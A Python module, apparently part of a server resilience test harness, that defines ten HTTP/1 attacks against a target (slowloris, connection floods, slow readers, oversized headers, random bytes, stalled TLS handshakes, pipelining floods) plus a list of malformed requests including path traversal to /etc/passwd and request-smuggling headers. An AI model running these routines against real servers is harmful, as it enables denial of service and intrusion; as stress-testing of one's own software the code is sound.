"""Attacks on HTTP/1: each runs in its own process until its time is over."""
import itertools
import random
import socket
import time

REQUEST = b"GET /metrics HTTP/1.1\r\nHost: h\r\n\r\n"


# So many turns a second at most: an attacker from elsewhere does not take the processor of the attacked.
PACE = 1500


def until(seconds):
    """Yields at the pace until the time is over."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        begin = time.monotonic()
        yield
        time.sleep(max(0.0, 1 / PACE - (time.monotonic() - begin)))


def quietly(action, *arguments):
    """Does what the server may cut short at any moment; that it does is not this attack's concern."""
    try:
        return action(*arguments)
    except OSError:
        return None


def idle_connections(target, seconds, number=10_000):
    """Opens connections by the thousand, says nothing, and opens new ones for those that were closed."""
    connections = []
    for _ in until(seconds):
        if len(connections) >= number:
            time.sleep(0.05)
        connection = quietly(target.connect) if len(connections) < number else None
        if connection:
            connections.append(connection)


def kept_connections(target, seconds, number=3000):
    """Asks once on each connection and keeps it."""
    connections = []
    for _ in until(seconds):
        connection = quietly(target.connect)
        if connection:
            quietly(connection.sendall, b"GET /-/healthy HTTP/1.1\r\nHost: h\r\n\r\n")
            connections.append(connection)
        if len(connections) > number:
            connections.pop(0).close()


def slowloris(target, seconds, number=2000):
    """Sends heads that never end, a byte at a time."""
    connections = []
    for _ in until(seconds):
        if len(connections) < number:
            connection = quietly(target.connect)
            if connection:
                quietly(connection.sendall, b"GET /metrics HTTP/1.1\r\nHost: h\r\nX-A: ")
                connections.append(connection)
            continue
        for connection in connections:
            quietly(connection.sendall, b"b")
        time.sleep(0.5)


def slow_readers(target, seconds, number=600):
    """Asks again and again on each connection and reads nothing."""
    connections = []
    for _ in until(seconds):
        if len(connections) >= number:
            time.sleep(0.05)
            continue
        connection = quietly(target.connect)
        if connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            connection.setblocking(False)
            quietly(connection.send, REQUEST * 20)
            connections.append(connection)


def half_open(target, seconds):
    """Asks, says that nothing more will come, and vanishes without reading."""
    for _ in until(seconds):
        connection = quietly(target.connect)
        if connection:
            quietly(connection.sendall, REQUEST)
            quietly(connection.shutdown, socket.SHUT_WR)
            connection.close()


def huge_heads(target, seconds):
    """Sends heads of megabytes."""
    piece = b"X-Long: " + b"a" * 60_000 + b"\r\n"
    for _ in until(seconds):
        connection = quietly(target.connect)
        if connection:
            quietly(connection.sendall, b"GET / HTTP/1.1\r\n" + piece * 20)
            connection.close()


def garbage(target, seconds):
    """Sends random bytes, the same in each run, below TLS and inside it."""
    dice = random.Random("garbage")
    for _ in until(seconds):
        for connect in (target.connect_raw, target.connect):
            connection = quietly(connect)
            if connection:
                quietly(connection.sendall, dice.randbytes(dice.randint(1, 4000)))
                connection.close()


def odd_requests(target, seconds):
    """Path tricks, chunked bodies, old versions, missing hosts, smuggling: all in turn."""
    heads = [
        b"GET /../../etc/passwd HTTP/1.1\r\nHost: h\r\n\r\n",
        b"GET /%2e%2e/%00/metrics HTTP/1.1\r\nHost: h\r\n\r\n",
        b"GET //metrics/../.. HTTP/1.0\r\n\r\n",
        b"GET /metrics HTTP/1.1\r\n\r\n",
        b"POST /metrics HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
        b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        b"OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n",
        b"GET /metrics HTTP/9.9\r\nHost: h\r\n\r\n",
        b"CONNECT h:1 HTTP/1.1\r\nHost: h\r\n\r\n",
        b"GET /metrics HTTP/1.1\r\nHost: h\r\n" + b"A:b\r\n" * 3000 + b"\r\n",
    ]
    turns = itertools.cycle(heads)
    for _ in until(seconds):
        connection = quietly(target.connect)
        if connection:
            quietly(connection.sendall, next(turns))
            connection.settimeout(0.05)
            quietly(connection.recv, 4096)
            connection.close()


def pipelining(target, seconds):
    """Sends requests by the thousand and reads little."""
    for _ in until(seconds):
        connection = quietly(target.connect)
        if connection:
            connection.setblocking(False)
            for _ in range(200):
                quietly(connection.send, b"GET /-/healthy HTTP/1.1\r\nHost: h\r\n\r\n" * 50)
            connection.close()
            time.sleep(0.02)


def silent_handshakes(target, seconds, number=2000):
    """Opens connections for TLS and stops in the middle of the handshake."""
    hello = bytes.fromhex("16030100c8010000c40303") + bytes(range(60))
    connections = []
    for _ in until(seconds):
        if len(connections) >= number:
            time.sleep(0.05)
            continue
        connection = quietly(target.connect_raw)
        if connection:
            quietly(connection.sendall, hello)
            connections.append(connection)


ATTACKS = [
    idle_connections, kept_connections, slowloris, slow_readers, half_open, huge_heads, garbage, odd_requests,
    pipelining, silent_handshakes,
]
